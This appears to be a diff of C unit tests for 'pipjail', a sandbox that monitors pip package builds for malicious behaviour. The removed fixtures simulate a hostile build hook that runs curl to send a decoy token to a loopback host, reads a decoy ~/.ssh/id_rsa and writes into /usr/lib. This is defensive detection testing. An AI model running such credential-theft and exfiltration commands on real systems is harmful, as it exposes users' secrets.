@@ -1,7 +1,8 @@
 /* The decision engine fed with synthetic event sequences, as the monitor
  * would hand them over: roles, packages, hooks, violations with their rule
- * and action, the process chain, the kill hook, the reports, and the same
- * verdict again from the written trace through `pipjail replay`. */
+ * and action, the process chain, the kill hook, the writers of paths.  The
+ * reports of the same runs are report/test_report.c's; the trace and its
+ * replay, cmd/test_replay.c's. */
 #include <errno.h>
 #include <fcntl.h>
 #include <limits.h>
@@ -11,234 +12,20 @@
 #include <sys/stat.h>
 #include <unistd.h>
 
-#include "cmd/cmd.h"
 #include "decide/engine_priv.h"
-#include "decide/profile.h"
-#include "report/report.h"
 #include "../unit.h"
+#include "../engine_fixture.h"
 #include "base/base.h"
-
-#define HOME   "/home/u"
-#define TOKEN  "PIPJAILdeadbeefcafe0123456789abcdef0123456789abcd"
-#define SRC    "/tmp/pip-install-k2j3/demo_0123456789abcdef0123456789abcdef"
-#define SRC2   "/tmp/pip-install-k2j3/good_fedcba9876543210fedcba9876543210"
-
-static char bundled[PATH_MAX + 16];
-static char tmpdir[PATH_MAX];
-static uint64_t clock_ns = 1000000000;
-
-/* ---- event builders ------------------------------------------------------------ */
-
-static struct trace_event base(const char *kind, uint32_t hpid, uint32_t pid, uint32_t hppid)
-{
-	struct trace_event ev = {
-		.kind = kind, .nr = -1, .t_mono_ns = clock_ns, .t_wall_ns = 1700000000000000000LL + (int64_t)clock_ns,
-		.pid = pid, .tid = pid, .hpid = hpid, .htid = hpid, .hppid = hppid, .uid = 1000, .gid = 1000,
-		.comm = "x", .mode = -1, .protocol = -1, .port = -1, .target_pid = -1, .exit_code = -1,
-	};
-
-	clock_ns += 1000;
-	return ev;
-}
-
-static void fork_ev(struct engine *e, uint32_t hpid, uint32_t pid, uint32_t child_hpid, uint32_t child_pid)
-{
-	struct trace_event ev = base("fork", hpid, pid, 0);
-
-	ev.child_hpid = ev.child_htid = child_hpid;
-	ev.child_pid = ev.child_tid = child_pid;
-	engine_event(e, &ev);
-}
-
-static void exec_ev(struct engine *e, uint32_t hpid, uint32_t pid, const char *path, const char *cwd,
-		    const char *const *argv)
-{
-	struct trace_event ev = base("exec", hpid, pid, 0);
-	const char *b = strrchr(path, '/');
-
-	ev.path = ev.abs = ev.file = path;
-	ev.cwd = cwd;
-	ev.argv = argv;
-	ev.comm = b ? b + 1 : path;
-	ev.exe = path;
-	engine_event(e, &ev);
-}
-
-static void open_ev(struct engine *e, uint32_t hpid, uint32_t pid, const char *path, const char *flags,
-		    long ret)
-{
-	struct trace_event ev = base("open", hpid, pid, 0);
-
-	ev.syscall = "openat";
-	ev.nr = 257;
-	ev.path = ev.abs = path;
-	ev.file = ret >= 0 ? path : NULL;
-	ev.flags = flags;
-	ev.has_ret = true;
-	ev.ret = ret;
-	engine_event(e, &ev);
-}
-
-static void connect_ev(struct engine *e, uint32_t hpid, uint32_t pid, const char *addr, int port)
-{
-	struct trace_event ev = base("connect", hpid, pid, 0);
-
-	ev.syscall = "connect";
-	ev.nr = 42;
-	ev.family = "AF_INET";
-	ev.addr = addr;
-	ev.port = port;
-	ev.has_ret = true;
-	ev.ret = -ECONNREFUSED;
-	engine_event(e, &ev);
-}
-
-static void refused_ev(struct engine *e, uint32_t hpid, uint32_t pid, const char *syscall, long ret)
-{
-	struct trace_event ev = base("seccomp_refused", hpid, pid, 0);
-
-	ev.syscall = syscall;
-	ev.refused = true;
-	ev.has_ret = true;
-	ev.ret = ret;
-	engine_event(e, &ev);
-}
-
-static void exit_ev(struct engine *e, uint32_t hpid, uint32_t pid, const char *signal)
-{
-	struct trace_event ev = base("exit", hpid, pid, 0);
-
-	ev.signal = signal;
-	ev.exit_code = signal ? -1 : 0;
-	engine_event(e, &ev);
-}
-
-/* ---- the kill hook ---------------------------------------------------------------- */
-
-struct kills {
-	uint32_t hpid[16];
-	bool whole[16];
-	int n;
-};
-
-static int kill_hook(uint32_t hpid, bool whole_jail, void *ctx)
-{
-	struct kills *k = ctx;
-
-	if (k->n < 16) {
-		k->hpid[k->n] = hpid;
-		k->whole[k->n] = whole_jail;
-	}
-	k->n++;
-	return 0;
-}
-
-/* ---- fixtures ------------------------------------------------------------------------ */
-
-static struct profile *load_default(void)
-{
-	struct profile_source src = { .dir = bundled };
-	char err[1024];
-	struct profile *p = profile_load("default", &src, err, sizeof(err));
-
-	if (!p) {
-		fprintf(stderr, "%s\n", err);
-		exit(1);
-	}
-	profile_set_defaults(p, HOME, "/work", NULL);
-	profile_set_var(p, "ENV", "/venv");
-	profile_set_var(p, "SITE", "/venv/lib/python3.11/site-packages");
-	return p;
-}
-
-static const char *const pip_argv[] = { "/venv/bin/python3", "/venv/bin/pip", "install", "--no-index",
-					 "./demo-1.0.tar.gz", "./good-2.0.tar.gz", NULL };
-static const char *const hook_argv[] = {
-	"/venv/bin/python3",
-	"/venv/lib/python3.11/site-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py",
-	"build_wheel", "/tmp/tmpq1w2e3", NULL,
-};
-static const char *const gcc_argv[] = { "gcc", "-pthread", "-fPIC", "-I/usr/include/python3.11", "-c",
-					"demo.c", "-o", "build/temp.linux-x86_64-cpython-311/demo.o", NULL };
-static const char *const sh_argv[] = { "/bin/sh", "-c", "curl -s http://127.0.0.1:8080/x?t=" TOKEN, NULL };
-static const char *const curl_argv[] = { "curl", "-s", "http://127.0.0.1:8080/x?t=" TOKEN, NULL };
-
-/* init (1000/1) -> command (1001/2) = pip -> hook (1002/3) -> gcc (1003/4) */
-static void clean_part(struct engine *e)
-{
-	fork_ev(e, 1000, 1, 1001, 2);
-	exec_ev(e, 1001, 2, "/venv/bin/pip", "/work", pip_argv);
-	open_ev(e, 1001, 2, "/work/demo-1.0.tar.gz", "O_RDONLY|O_CLOEXEC", 3);
-	fork_ev(e, 1001, 2, 1002, 3);
-	exec_ev(e, 1002, 3, "/venv/bin/python3", SRC, hook_argv);
-	open_ev(e, 1002, 3, "/usr/lib/python3.11/os.py", "O_RDONLY|O_CLOEXEC", 3);
-	open_ev(e, 1002, 3, SRC "/setup.py", "O_RDONLY|O_CLOEXEC", 3);
-	open_ev(e, 1002, 3, "/nonexistent-probe/x.py", "O_RDONLY|O_CLOEXEC", -ENOENT);
-	fork_ev(e, 1002, 3, 1003, 4);
-	exec_ev(e, 1003, 4, "/usr/bin/gcc", SRC, gcc_argv);
-	open_ev(e, 1003, 4, SRC "/demo.c", "O_RDONLY", 3);
-	open_ev(e, 1003, 4, "/usr/include/python3.11/Python.h", "O_RDONLY", 3);
-	open_ev(e, 1003, 4, SRC "/build/temp.linux-x86_64-cpython-311/demo.o",
-		"O_WRONLY|O_CREAT|O_TRUNC", 4);
-	open_ev(e, 1003, 4, "/tmp/ccAbcd.s", "O_RDWR|O_CREAT|O_EXCL", 4);
-	exit_ev(e, 1003, 4, NULL);
-	refused_ev(e, 1002, 3, "io_uring_setup", -ENOSYS);  /* a probe: recorded only */
-	refused_ev(e, 1002, 3, "clone3", -ENOSYS);
-}
-
-static void bad_part(struct engine *e)
-{
-	/* the hook starts sh, sh starts curl with the decoy token */
-	fork_ev(e, 1002, 3, 1004, 5);
-	exec_ev(e, 1004, 5, "/bin/sh", SRC, sh_argv);
-	fork_ev(e, 1004, 5, 1005, 6);
-	exec_ev(e, 1005, 6, "/usr/bin/curl", SRC, curl_argv);
-	connect_ev(e, 1005, 6, "127.0.0.1", 8080);
-	/* the hook reads the decoy key, writes outside its tree, calls ptrace */
-	open_ev(e, 1002, 3, HOME "/.ssh/id_rsa", "O_RDONLY|O_CLOEXEC", 5);
-	open_ev(e, 1002, 3, HOME "/.ssh/id_rsa", "O_RDONLY|O_CLOEXEC", 5);  /* again: once */
-	open_ev(e, 1002, 3, "/usr/lib/evil.so", "O_WRONLY|O_CREAT", -EROFS);
-	refused_ev(e, 1002, 3, "ptrace", -EPERM);
-}
-
-static void second_package(struct engine *e)
-{
-	fork_ev(e, 1001, 2, 1010, 7);
-	exec_ev(e, 1010, 7, "/venv/bin/python3", SRC2, hook_argv);
-	open_ev(e, 1010, 7, SRC2 "/pyproject.toml", "O_RDONLY", 3);
-	exit_ev(e, 1010, 7, NULL);
-}
-
-static const struct violation_record *find(const struct engine *e, const char *rule)
-{
-	for (size_t i = 0; i < engine_n_violations(e); i++)
-		if (!strcmp(engine_violation(e, i)->rule, rule))
-			return engine_violation(e, i);
-	return NULL;
-}
-
-static size_t count(const struct engine *e, const char *rule)
-{
-	size_t n = 0;
-
-	for (size_t i = 0; i < engine_n_violations(e); i++)
-		n += !strcmp(engine_violation(e, i)->rule, rule);
-	return n;
-}
 
 /* ---- tests ----------------------------------------------------------------------------- */
 
 static void test_clean(void)
 {
-	struct profile *p = load_default();
-	struct engine *e = engine_new(p, true);
 	struct kills k = { 0 };
+	struct engine *e = install_engine(true, &k);
 	const struct proc_info *pi;
 	struct engine_outcome out = { .command_code = 0 };
 
-	engine_set_kill(e, kill_hook, &k);
-	engine_set_command(e, pip_argv + 1);
-	engine_add_decoy(e, "~/.ssh/id_rsa", TOKEN);
 	clean_part(e);
 	second_package(e);
 
@@ -271,37 +58,20 @@ static void test_clean(void)
 	CHECK_STR_EQ(engine_verdict(e), "clean");
 	CHECK_INT_EQ(engine_exit_code(e, 0), 0);
 	CHECK_INT_EQ(engine_exit_code(e, 1), 1);
-	{
-		char *buf = NULL;
-		size_t len = 0;
-		FILE *f = open_memstream(&buf, &len);
-
-		report_print(e, f, false, 0);
-		fclose(f);
-		CHECK(strstr(buf, "pipjail: clean: 2 packages built (demo, good)") != NULL,
-		      "one short line: %s", buf);
-		CHECK(strchr(buf, '\n') == buf + len - 1, "a clean run is one line: %s", buf);
-		free(buf);
-	}
 	/* lost events: never clean */
 	out.lost = 3;
 	engine_set_outcome(e, &out);
 	CHECK_STR_EQ(engine_verdict(e), "incomplete");
 	CHECK_INT_EQ(engine_exit_code(e, 0), EXIT_INCOMPLETE);
-	engine_free(e);
-	profile_free(p);
+	install_end(e);
 }
 
 static void test_violations(bool enforce)
 {
-	struct profile *p = load_default();
-	struct engine *e = engine_new(p, enforce);
 	struct kills k = { 0 };
+	struct engine *e = install_engine(enforce, &k);
 	const struct violation_record *v;
 
-	engine_set_kill(e, kill_hook, &k);
-	engine_set_command(e, pip_argv + 1);
-	engine_add_decoy(e, "~/.ssh/id_rsa", TOKEN);
 	clean_part(e);
 	CHECK_INT_EQ(engine_n_violations(e), 0);
 	bad_part(e);
@@ -378,60 +148,7 @@ static void test_violations(bool enforce)
 	}
 	CHECK_STR_EQ(engine_verdict(e), "violation");
 
-	/* the human report: the package, the rule, the chain, what was done */
-	{
-		char *buf = NULL;
-		size_t len = 0;
-		FILE *f = open_memstream(&buf, &len);
-
-		report_print(e, f, false, engine_exit_code(e, 0));
-		fclose(f);
-		CHECK(strstr(buf, "VIOLATION") && strstr(buf, "demo: violation (build_wheel)"),
-		      "report names the package:\n%s", buf);
-		CHECK(strstr(buf, "good: clean") != NULL, "and the clean one:\n%s", buf);
-		CHECK(strstr(buf, "chain:    pip → build_wheel → sh → curl") != NULL, "chain:\n%s", buf);
-		CHECK(strstr(buf, enforce ? "done:     killed" : "reported (audit; enforce kills it)") != NULL,
-		      "what was done:\n%s", buf);
-		if (!enforce && getenv("SHOW_REPORT"))
-			fputs(buf, stderr);
-		free(buf);
-	}
-	/* the JSON report */
-	{
-		cJSON *r = report_json(e, engine_exit_code(e, 0)), *vs, *it, *pk;
-		bool seen = false;
-
-		CHECK_STR_EQ(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(r, "verdict")), "violation");
-		CHECK_STR_EQ(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(r, "mode")),
-			     enforce ? "enforce" : "audit");
-		vs = cJSON_GetObjectItemCaseSensitive(r, "violations");
-		CHECK(cJSON_GetArraySize(vs) == (int)engine_n_violations(e), "all violations in JSON");
-		cJSON_ArrayForEach(it, vs) {
-			if (strcmp(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(it, "rule")), "exec"))
-				continue;
-			seen = true;
-			CHECK_STR_EQ(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(it, "package")), "demo");
-			CHECK_STR_EQ(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(it, "hook")), "build_wheel");
-			CHECK_STR_EQ(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(it, "role")), "tool");
-			CHECK_STR_EQ(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(it, "action")), "kill-process");
-			CHECK(cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(it, "pids")) == 4, "pids");
-			CHECK(cJSON_IsString(cJSON_GetObjectItemCaseSensitive(it, "time")), "time");
-		}
-		CHECK(seen, "the exec violation is in the JSON");
-		pk = cJSON_GetObjectItemCaseSensitive(r, "packages");
-		CHECK_INT_EQ(cJSON_GetArraySize(pk), 2);
-		cJSON_ArrayForEach(it, pk) {
-			const char *name = cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(it, "name"));
-			const char *verdict = cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(it, "verdict"));
-
-			CHECK(name && verdict && ((!strcmp(name, "demo") && !strcmp(verdict, "violation")) ||
-						  (!strcmp(name, "good") && !strcmp(verdict, "clean"))),
-			      "package %s: %s", name ? name : "?", verdict ? verdict : "?");
-		}
-		cJSON_Delete(r);
-	}
-	engine_free(e);
-	profile_free(p);
+	install_end(e);
 }
 
 static void test_classify(void)
@@ -451,25 +168,18 @@ static void test_classify(void)
 						 "prepare_metadata_for_build_wheel", "/tmp/t", NULL };
 	static const char *const git[] = { "git", "clone", "-q", "https://example.invalid/x.git", NULL };
 
-	fork_ev(e, 2000, 1, 2001, 2);
-	exec_ev(e, 2001, 2, "/usr/bin/python3", "/work", m_pip);
-	pi = engine_proc(e, 2001);
+	pi = spawn(e, 2000, 1, 2001, 2, "/usr/bin/python3", "/work", m_pip);
 	CHECK(pi && pi->role == ROLE_PIP, "python -m pip is pip");
-	fork_ev(e, 2001, 2, 2002, 3);
-	exec_ev(e, 2002, 3, "/venv/bin/python3", "/tmp/pip-install-a/old_0123456789abcdef0123456789abcdef", legacy);
-	pi = engine_proc(e, 2002);
+	pi = spawn(e, 2001, 2, 2002, 3, "/venv/bin/python3",
+		   "/tmp/pip-install-a/old_0123456789abcdef0123456789abcdef", legacy);
 	CHECK(pi && pi->role == ROLE_BUILD, "the setuptools shim is a build");
 	if (pi) {
 		CHECK_STR_EQ(pi->hook, "setup.py egg_info");
 		CHECK_STR_EQ(pi->package, "old");
 	}
-	fork_ev(e, 2001, 2, 2003, 4);
-	exec_ev(e, 2003, 4, "/usr/bin/git", "/work", git);
-	pi = engine_proc(e, 2003);
+	pi = spawn(e, 2001, 2, 2003, 4, "/usr/bin/git", "/work", git);
 	CHECK(pi && pi->role == ROLE_TOOL && !pi->package, "git under pip is a tool of no package");
-	fork_ev(e, 2001, 2, 2004, 5);
-	exec_ev(e, 2004, 5, "/usr/bin/python3", "/tmp/pip-req-build-xyz", meta_hook);
-	pi = engine_proc(e, 2004);
+	pi = spawn(e, 2001, 2, 2004, 5, "/usr/bin/python3", "/tmp/pip-req-build-xyz", meta_hook);
 	CHECK(pi && pi->role == ROLE_BUILD, "a metadata hook is a build");
 	if (pi)
 		CHECK_STR_EQ(pi->hook, "prepare_metadata_for_build_wheel");
@@ -485,9 +195,7 @@ static void test_classify(void)
 		      !strcmp(pi->version, "3.1"), "a package note attributes the build");
 	}
 	/* a build run directly as the jailed command */
-	fork_ev(e, 2000, 1, 2010, 9);
-	exec_ev(e, 2010, 9, "/usr/bin/python", "/src/proj-0.3", setup_py);
-	pi = engine_proc(e, 2010);
+	pi = spawn(e, 2000, 1, 2010, 9, "/usr/bin/python", "/src/proj-0.3", setup_py);
 	CHECK(pi && pi->role == ROLE_BUILD, "python setup.py is a build");
 	if (pi) {
 		CHECK_STR_EQ(pi->hook, "setup.py bdist_wheel");
@@ -525,13 +233,10 @@ static void test_field_cases(void)
 	};
 	struct trace_event ev;
 
-	fork_ev(e, 4000, 1, 4001, 2);
-	exec_ev(e, 4001, 2, "/venv/bin/pip", "/work", pip_argv);
+	spawn(e, 4000, 1, 4001, 2, "/venv/bin/pip", "/work", pip_argv);
 	/* pip's own helper (lsb_release for its user agent) runs getopt: pip's rules */
-	fork_ev(e, 4001, 2, 4002, 3);
-	exec_ev(e, 4002, 3, "/usr/bin/lsb_release", "/work", lsb);
-	fork_ev(e, 4002, 3, 4003, 4);
-	exec_ev(e, 4003, 4, "/usr/bin/getopt", "/work", getopt_argv);
+	spawn(e, 4001, 2, 4002, 3, "/usr/bin/lsb_release", "/work", lsb);
+	spawn(e, 4002, 3, 4003, 4, "/usr/bin/getopt", "/work", getopt_argv);
 	CHECK_INT_EQ(engine_n_violations(e), 0);
 	/* urllib3's IPv6 probe binds [::1]:0 */
 	ev = base("bind", 4001, 2, 0);
@@ -543,8 +248,7 @@ static void test_field_cases(void)
 	engine_event(e, &ev);
 	CHECK_INT_EQ(engine_n_violations(e), 0);
 	/* a legacy build in a tree nothing names learns its name from egg-info */
-	fork_ev(e, 4001, 2, 4010, 5);
-	exec_ev(e, 4010, 5, "/venv/bin/python3", "/tmp/pip-req-build-q", legacy);
+	spawn(e, 4001, 2, 4010, 5, "/venv/bin/python3", "/tmp/pip-req-build-q", legacy);
 	CHECK(engine_proc(e, 4010) && !engine_proc(e, 4010)->package, "no name yet");
 	ev = base("mkdir", 4010, 5, 0);
 	ev.syscall = "mkdir";
@@ -566,36 +270,20 @@ static void test_field_cases(void)
 		static const char *const imp[] = { "/venv/bin/python", "-I", "-B", "-c", "import sys", "demo", NULL };
 
 		engine_set_next_command_role(e, ROLE_IMPORT);
-		fork_ev(e, 4000, 1, 4020, 20);
-		exec_ev(e, 4020, 20, "/venv/bin/python", "/work", imp);
+		spawn(e, 4000, 1, 4020, 20, "/venv/bin/python", "/work", imp);
 		CHECK(engine_proc(e, 4020) && engine_proc(e, 4020)->role == ROLE_IMPORT, "the import check");
 		open_ev(e, 4020, 20, HOME "/.config/matplotlib/matplotlibrc", "O_RDONLY", 3);
 		CHECK(find(e, "file-read") == NULL, "the decoy home minus secrets is readable");
 		open_ev(e, 4020, 20, HOME "/.ssh/known_hosts", "O_RDONLY", 3);
 		CHECK(find(e, "file-read") && find(e, "file-read")->role == ROLE_IMPORT,
 		      "an import reading ~/.ssh is caught under the import rules");
-		fork_ev(e, 4000, 1, 4021, 21);
-		exec_ev(e, 4021, 21, "/venv/bin/pip", "/work", pip_argv);
+		spawn(e, 4000, 1, 4021, 21, "/venv/bin/pip", "/work", pip_argv);
 		CHECK(engine_proc(e, 4021) && engine_proc(e, 4021)->role == ROLE_PIP, "only the next command");
 	}
 	if (find(e, "exec"))
 		CHECK_STR_EQ(find(e, "exec")->package, "my_pkg");
 	engine_free(e);
 	profile_free(p);
-}
-
-/* A path event (mkdir, symlink, unlink, rename, link) that succeeded. */
-static void path_ev(struct engine *e, const char *kind, uint32_t hpid, uint32_t pid, const char *abs,
-		    const char *abs2, long ret)
-{
-	struct trace_event ev = base(kind, hpid, pid, 0);
-
-	ev.syscall = kind;
-	ev.path = ev.abs = abs;
-	ev.path2 = ev.abs2 = abs2;
-	ev.has_ret = true;
-	ev.ret = ret;
-	engine_event(e, &ev);
 }
 
 #define SITE "/venv/lib/python3.11/site-packages"
@@ -671,8 +359,8 @@ static void test_writers(void)
 
 	/* a legacy setup.py install of evil-demo writes a file no RECORD names;
 	 * the staging check reports it with its writer */
-	fork_ev(e, 1001, 2, 1020, 20);
-	exec_ev(e, 1020, 20, "/venv/bin/python3", "/tmp/pip-install-k2j3/evil-demo_0123456789abcdef0123456789abcdef", legacy);
+	spawn(e, 1001, 2, 1020, 20, "/venv/bin/python3",
+	      "/tmp/pip-install-k2j3/evil-demo_0123456789abcdef0123456789abcdef", legacy);
 	open_ev(e, 1020, 20, SITE "/zz-evil.py", "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE|O_CLOEXEC", 3);
 	sv.rule = "undeclared-file";
 	sv.kind = "staging";
@@ -796,139 +484,9 @@ static void test_live_meta(void)
 	profile_free(p);
 }
 
-/* Live: the engine writes the annotated trace; replay gives the same verdict. */
-static void test_trace_and_replay(void)
-{
-	char tpath[PATH_MAX + 32], rpath[PATH_MAX + 32], ppath[PATH_MAX + 32];
-	struct profile *p = load_default();
-	struct engine *e = engine_new(p, true);
-	struct kills k = { 0 };
-	struct trace_writer *w;
-	int fd;
-	size_t live_n;
-
-	snprintf(tpath, sizeof(tpath), "%s/trace.jsonl", tmpdir);
-	snprintf(rpath, sizeof(rpath), "%s/report.json", tmpdir);
-	snprintf(ppath, sizeof(ppath), "%s/default.json", bundled);
-	fd = open(tpath, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
-	CHECK(fd >= 0, "open %s", tpath);
-	w = trace_writer_open(fd);
-	{
-		cJSON *extra = cJSON_CreateObject(), *decoys = cJSON_AddArrayToObject(extra, "decoys"), *d;
-		struct trace_option opts[] = { { "home", HOME }, { "cwd", "/work" } };
-		struct trace_header h = { .argv = pip_argv + 1, .options = opts, .n_options = 2, .extra = extra };
-
-		d = cJSON_CreateObject();
-		cJSON_AddStringToObject(d, "where", "~/.ssh/id_rsa");
-		cJSON_AddStringToObject(d, "token", TOKEN);
-		cJSON_AddItemToArray(decoys, d);
-		cJSON_AddItemToObject(extra, "profile", profile_to_json(p));
-		trace_write_header(w, &h);
-		cJSON_Delete(extra);
-	}
-	engine_set_trace(e, w);
-	engine_set_kill(e, kill_hook, &k);
-	engine_set_command(e, pip_argv + 1);
-	engine_add_decoy(e, "~/.ssh/id_rsa", TOKEN);
-	clean_part(e);
-	bad_part(e);
-	second_package(e);
-	live_n = engine_n_violations(e);
-	{
-		struct trace_summary s = { .wait_status = 0 };
-
-		trace_write_summary(w, &s);
-		CHECK(trace_writer_close(w) == 0, "trace written");
-	}
-	/* every event line carries its role, package and hook */
-	{
-		char line[8192];
-		FILE *f = fopen(tpath, "r");
-		bool exec_line = false, note_after = false, gcc_line = false;
-		char err[512];
-
-		while (f && fgets(line, sizeof(line), f)) {
-			if (strstr(line, "\"kind\":\"exec\"") && strstr(line, "_in_process.py") &&
-			    strstr(line, "\"role\":\"build\"") && strstr(line, "\"package\":\"demo\"") &&
-			    strstr(line, "\"hook\":\"build_wheel\"")) {
-				exec_line = true;
-				if (fgets(line, sizeof(line), f))
-					note_after = strstr(line, "\"type\":\"note\"") && strstr(line, "\"kind\":\"package\"") &&
-						     strstr(line, "\"package\":\"demo\"");
-			}
-			if (strstr(line, "/usr/bin/gcc") && strstr(line, "\"role\":\"tool\"") &&
-			    strstr(line, "\"package\":\"demo\""))
-				gcc_line = true;
-		}
-		if (f)
-			fclose(f);
-		CHECK(exec_line, "the hook's exec line is annotated");
-		CHECK(note_after, "a package note follows the exec line");
-		CHECK(gcc_line, "gcc's exec line carries the package");
-		CHECK(trace_check_file(tpath, NULL, err, sizeof(err)) == 0, "the trace is valid: %s", err);
-	}
-	engine_free(e);
-	profile_free(p);
-
-	/* replay it: the same violations, a report file */
-	{
-		char *argv[] = { "replay", tpath, "--profile", ppath, "--report", rpath, NULL };
-		int code = cmd_replay(6, argv);
-		FILE *f = fopen(rpath, "r");
-		char buf[1 << 16];
-		size_t n = f ? fread(buf, 1, sizeof(buf) - 1, f) : 0;
-		cJSON *r;
-
-		if (f)
-			fclose(f);
-		buf[n] = '\0';
-		CHECK_INT_EQ(code, EXIT_VIOLATION_FOUND);
-		r = cJSON_Parse(buf);
-		CHECK(r != NULL, "the replay report is JSON");
-		CHECK_STR_EQ(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(r, "verdict")), "violation");
-		CHECK_STR_EQ(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(r, "mode")), "replay");
-		CHECK_INT_EQ(cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(r, "violations")), live_n);
-		CHECK(strstr(buf, "pip → build_wheel → sh → curl") != NULL, "the chain again");
-		cJSON_Delete(r);
-	}
-	/* a malformed line: named, exit 125 */
-	{
-		char bad[PATH_MAX + 32];
-		FILE *in = fopen(tpath, "r"), *out;
-		char line[8192];
-		int ln = 0;
-		char *argv[] = { "replay", bad, "--profile", ppath, NULL };
-
-		snprintf(bad, sizeof(bad), "%s/bad.jsonl", tmpdir);
-		out = fopen(bad, "w");
-		while (in && out && fgets(line, sizeof(line), in)) {
-			if (++ln == 4)
-				fputs("{\"type\":\"event\", oops\n", out);
-			else
-				fputs(line, out);
-		}
-		if (in)
-			fclose(in);
-		if (out)
-			fclose(out);
-		CHECK_INT_EQ(cmd_replay(4, argv), EXIT_PIPJAIL_ERROR);
-	}
-}
-
 int main(void)
 {
-	char exe[PATH_MAX];
-	ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
-	char *slash;
-
-	if (n <= 0)
-		return 1;
-	exe[n] = '\0';
-	for (int i = 0; i < 3 && (slash = strrchr(exe, '/')); i++)
-		*slash = '\0';
-	snprintf(bundled, sizeof(bundled), "%s/profiles", exe);
-	snprintf(tmpdir, sizeof(tmpdir), "/tmp/pipjail-test-engine-XXXXXX");
-	if (!mkdtemp(tmpdir))
+	if (!fixture_begin("engine"))
 		return 1;
 	test_meta();
 	test_clean();
@@ -938,13 +496,6 @@ int main(void)
 	test_field_cases();
 	test_writers();
 	test_live_meta();
-	test_trace_and_replay();
-	{
-		char cmd[PATH_MAX + 16];
-
-		snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmpdir);
-		if (system(cmd) != 0)
-			fprintf(stderr, "could not remove %s\n", tmpdir);
-	}
+	fixture_end();
 	return unit_summary("test_engine");
 }
